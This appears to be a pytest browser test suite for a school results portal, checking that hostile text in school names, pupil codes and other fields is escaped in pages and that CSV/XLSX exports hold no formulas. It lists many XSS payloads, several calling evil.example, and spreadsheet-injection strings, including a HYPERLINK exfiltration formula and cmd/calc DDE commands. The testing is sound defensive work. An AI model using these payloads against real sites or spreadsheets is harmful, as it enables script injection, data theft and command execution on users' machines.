"""A25, A26, A28: names, classes, schools, codes and texts of the catalogue that would be HTML, script or formulas."""

from __future__ import annotations

import csv
import io
import json
import re

import invented_run
import openpyxl
import portal_pages
import pytest
import served_otherwise
import served_portal
from portal_pages import CODE

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(4)</script>",
    '<img src=x onerror="alert(5)">',
    "<img src=`x` onerror=alert(6)//",
    "<svg/onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<body onload=alert(9)>",
    "<iframe src='javascript:alert(10)'></iframe>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    '" onmouseover="alert(12)" x="',
    "' onfocus='alert(13)' autofocus='",
    '"><script>alert(14)</script>',
    "'><img src=x onerror=alert(15)>",
    "javascript:alert(16)",
    "</title><script>alert(17)</script>",
    "</span><script>alert(18)</script>",
    "</td></tr></table><script>alert(19)</script>",
    "<!--<img src='--><img src=x onerror=alert(20)>'>",
    "<![CDATA[<script>alert(21)</script>]]>",
    "<math><mi xlink:href='javascript:alert(22)'>x</mi></math>",
    "<a href='javascript:alert(23)'>x</a>",
    "<form action='https://evil.example'><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url('https://evil.example')}</style>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<details open ontoggle=alert(30)>",
    "<template><script>alert(31)</script></template>",
    "&lt;script&gt;alert(32)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(33)&#62;",
    "{{ 7*191 }}${7*191}<%= 7*191 %>#{7*191}",
    "x\u2028alert(35)\u2029y",
    "\u202e<script>alert(36)</script>",
    '<span class="name" data-code="ABCDEF">ABCDEF</span>',
    '<div class="slot" id="places-slot"></div>',
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?" & A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(,\d+)?")
NAMED = [*PAYLOADS, *FORMULAS]
ALL = " ".join(PAYLOADS)
ABOVE = ("municipality.101", "state.101", "steward.101")
CODES = served_portal.CODES["101"]
PAGES = [
    *(str(address) for address in portal_pages.pages("lv") if "director.101" in address.logins),
    "/en/school/101",
    f"/en/school/101/pupil/{CODE}",
    f"/en/school/101/pupil/{CODES[1]}/notice",
]
FOUND = """() => {
  const all = [...document.querySelectorAll("*")];
  const of = (elements) => elements.map(element => element.outerHTML.slice(0, 160));
  const comments = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT);
  return {
    scripts: of([...document.scripts].filter(one => !/^\\/static\\/portal\\.[0-9a-f]{16}\\.js$/.test(one.getAttribute("src") || "") || one.textContent)),
    handlers: of(all.filter(one => one.getAttributeNames().some(name => name.startsWith("on") || name === "style" || name === "srcdoc"))),
    strangers: of([...document.querySelectorAll("img, iframe, object, embed, base, math, template, style, meta[http-equiv], link[rel=stylesheet]:not([href^='/static/']), form[action]:not([action^='/'])")]),
    links: of(all.filter(one => ["href", "src", "action", "xlink:href"].some(name => /^\\s*(javascript|vbscript|https?|\\/\\/)/i.test(one.getAttribute(name) || "")))),
    comments: comments.nextNode() ? "a comment" : "",
  };
}"""
NOTHING = {"scripts": [], "handlers": [], "strangers": [], "links": [], "comments": ""}


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A portal whose every text may be an attack: schools, pupils, classes, features, the catalogue, who is logged in."""
    folder = tmp_path_factory.mktemp("poisoned")
    real = invented_run.score_rows

    def score_rows(count: int, places: int, seed: int) -> tuple[list[dict], list[dict]]:
        scores, reasons = real(count, places, seed)
        for number, score in enumerate(scores):
            score["class_code"] = PAYLOADS[number % len(PAYLOADS)]
        return scores, reasons

    last = invented_run.REASONS[-1]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(invented_run, "score_rows", score_rows)
        patch.setattr(invented_run, "RUN", invented_run.RUN | {"model_code": PAYLOADS[0], "code_version": PAYLOADS[4]})
        patch.setattr(invented_run, "REASONS", [*invented_run.REASONS[:-1], (PAYLOADS[4], *last[1:])])
        invented_run.publish(
            folder / "store", schools={"101": ALL, **{str(200 + n): text for n, text in enumerate(NAMED)}}
        )
    file = served_portal.register_file(folder / "store")
    with served_portal.open_register(file, may_create=True) as register:
        own = served_portal.PEOPLE["director.101"]
        many = [
            served_portal.Grant("director", school_id) for school_id in ("101", *map(str, range(200, 200 + len(NAMED))))
        ]
        register.accounts.add("director.101", ALL, served_portal.PASSWORD, "lv", own, "test")
        register.accounts.add("all.schools", ALL, served_portal.PASSWORD, "lv", many, "test")
        others = [login for login in served_portal.PEOPLE if login.endswith(".101") and login != "director.101"]
        for login in others:
            register.accounts.add(login, ALL, served_portal.PASSWORD, "lv", served_portal.PEOPLE[login], "test")
        typed = "".join(letter for letter in ALL if letter.isprintable())  # the register refuses others
        served_portal.add_support(register, ["101"], typed[:1900])
    names = {code: (text, PAYLOADS[0]) for code, text in zip(CODES, [*FORMULAS, *PAYLOADS], strict=False)}
    served_portal.give_names(folder / "store", names)
    before = served_otherwise.with_poisoned_texts(folder / "texts", f"{PAYLOADS[13]} {PAYLOADS[4]}")
    served = served_portal.start(folder / "store", folder / "log", before=before)
    yield served
    served.stop()


@pytest.fixture(scope="module")
def poisoned_readers(poisoned):
    return {login: poisoned.reader(login) for login in ("director.101", "all.schools", *ABOVE)}


@pytest.fixture
def watched(chromium, poisoned, poisoned_readers):
    """Open pages of the poisoned portal, and note dialogs, complaints of the policy, and requests to others."""
    contexts = []

    def opened(path: str, who: str = "director.101"):
        context = chromium.new_context()
        contexts.append(context)
        reader = poisoned_readers[who]
        context.add_cookies(
            [{"name": name, "value": value, "url": poisoned.address} for name, value in reader.cookies.items()]
        )
        page = context.new_page()
        trouble: list[str] = []
        page.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda line: line.type in {"error", "warning"} and trouble.append(line.text))
        page.on("pageerror", lambda error: trouble.append(str(error)))
        page.on(
            "request",
            lambda asked: asked.url.startswith((poisoned.address, "data:")) or trouble.append(f"foreign: {asked.url}"),
        )
        page.goto(poisoned.address + path, wait_until="load")
        return page, trouble

    yield opened
    for context in contexts:
        context.close()


def is_harmless(page, trouble: list[str]) -> None:
    assert page.evaluate(FOUND) == NOTHING
    assert trouble == []


@pytest.mark.parametrize("path", PAGES)
def test_a25_a28_no_text_of_the_data_becomes_a_part_of_the_page(watched, path):
    page, trouble = watched(path)
    assert "alert(" in page.inner_text("body"), "the attack did not reach this page"
    assert page.locator("h1").count() == 1
    is_harmless(page, trouble)


def test_a25_names_of_schools_in_the_list_stay_names(watched):
    page, trouble = watched("/lv/", "all.schools")
    told = page.inner_text("#schools")
    assert all(" ".join(text.split()) in " ".join(told.split()) for text in NAMED[:25])
    page.fill("#search", "<script>")
    is_harmless(page, trouble)


def test_a25_what_the_script_of_the_page_moves_stays_a_text(watched):
    page, trouble = watched("/lv/school/101")
    for control in ("#class", "#band", "#domain"):
        for value in page.eval_on_selector_all(f"{control} option", "options => options.map(one => one.value)")[:6]:
            page.select_option(control, value)
    page.click("button[type=reset]")
    page.fill("#search", PAYLOADS[4])
    page.click("button[type=reset]")
    page.locator("a.open:visible").first.click()
    page.wait_for_selector("#panel[open] h1")
    is_harmless(page, trouble)


@pytest.mark.parametrize(
    ("path", "who"),
    [
        (str(one), login)
        for one in portal_pages.pages("lv")
        for login in ABOVE
        if login in one.logins and one.view in {"municipality", "state", "runs", "audit", "accounts"}
    ],
)
def test_a25_pages_above_the_school_show_names_and_who_is_logged_in_as_texts(watched, path, who):
    page, trouble = watched(path, who)
    assert "alert(" in page.inner_text("body"), "the attack did not reach this page"
    is_harmless(page, trouble)


@pytest.mark.parametrize("payload", PAYLOADS[::4])
def test_a25_what_was_typed_into_the_login_comes_back_as_a_text(poisoned, chromium, payload):
    answer = poisoned.reader()
    token = answer.token_on("/lv/login")
    told = answer.post("/lv/login", {"token": token, "login": payload, "password": "", "next": payload})
    page = chromium.new_page()
    page.set_content(told.body)
    assert page.evaluate(FOUND) == NOTHING
    assert page.locator("#login").input_value() == payload.strip()
    page.close()


def test_a26_no_page_holds_data_in_a_script(poisoned_readers):
    reader = poisoned_readers["director.101"]
    for path in PAGES[1:]:  # the first only leads on
        body = reader.ask(path).body
        assert body.count("<script") == 1
        assert "application/json" not in body
        _, inside = body.split("<script")[1].split("</script>")[0].split(">", 1)
        assert inside == ""  # its file alone


def test_a26_what_a_script_is_answered_is_json_and_nothing_else(poisoned_readers):
    reader = poisoned_readers["director.101"]
    form = {"token": reader.token_on("/lv/school/101"), "places": "</script>"}
    answer = reader.post("/lv/school/101/places", form, Accept="application/json")
    assert json.loads(answer.body)
    assert "<" not in answer.body
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def _cells(reader, path: str) -> list[object]:
    body = reader.ask(path).content
    if path.endswith("csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert [
        cell.coordinate for sheet in book for row in sheet for cell in row if cell.data_type == "f" or cell.hyperlink
    ] == []
    return [cell.value for sheet in book for row in sheet for cell in row]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("who", "file"),
    [
        ("director.101", "school/101/list"),
        ("director.101", f"school/101/pupil/{CODES[0]}/sheet"),
        ("director.101", f"school/101/pupil/{CODES[1]}/sheet"),
        ("municipality.101", f"municipality/{served_portal.MUNICIPALITY}/table"),
    ],
)
def test_no_cell_of_a_file_is_a_formula(poisoned_readers, who, file, kind):
    found = _cells(poisoned_readers[who], f"/lv/{file}.{kind}")
    cells = [cell for cell in found if isinstance(cell, str)]
    assert any("HYPERLINK" in cell or "cmd" in cell for cell in cells), "the attack did not reach this file"
    texts = [cell for cell in cells if not NUMBER.fullmatch(cell)]
    assert [cell for cell in texts if cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))] == []
